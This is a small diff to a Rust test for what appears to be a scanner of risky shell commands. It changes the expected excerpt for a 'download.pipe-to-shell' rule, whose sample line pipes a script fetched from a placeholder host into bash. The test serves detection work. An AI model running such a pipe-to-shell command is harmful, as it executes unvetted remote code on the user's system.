@@ -330,7 +330,7 @@ mod tests {
             .find(|f| f.rule == "download.pipe-to-shell")
             .unwrap();
         assert_eq!(pipe.line, 1);
-        assert_eq!(pipe.excerpt, "curl -fsSL   https://x.example/i.sh   | bash");
+        assert_eq!(pipe.excerpt, "curl -fsSL https://x.example/i.sh | bash");
     }
 
     #[test]
